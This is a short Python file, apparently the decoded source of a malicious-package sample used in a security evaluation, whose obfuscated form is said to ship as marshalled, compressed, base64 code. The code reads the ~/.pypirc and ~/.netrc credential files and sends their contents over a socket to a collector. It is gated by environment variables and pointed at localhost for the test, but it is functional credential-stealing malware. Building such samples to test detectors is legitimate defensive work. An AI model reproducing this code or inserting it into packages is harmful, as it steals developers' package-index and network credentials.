# Clear source of the payload of malicious/marshal-exec (shipped as a
# marshalled code object, zlib compressed, base64 encoded).  Sends ~/.pypirc
# and ~/.netrc to a hard-coded collector.  Acts only inside the evaluation:
# 127.0.0.1 at SP_SINK_PORT.
import os, socket
p = int(os.environ.get("SP_SINK_PORT", "0"))
if p and os.environ.get("SP_TOKEN"):
    d = b""
    for n in ("~/.pypirc", "~/.netrc"):
        try:
            d += open(os.path.expanduser(n), "rb").read()
        except OSError:
            pass
    try:
        s = socket.create_connection(("127.0.0.1", p), 10)
        s.sendall(d)
        s.close()
    except OSError:
        pass
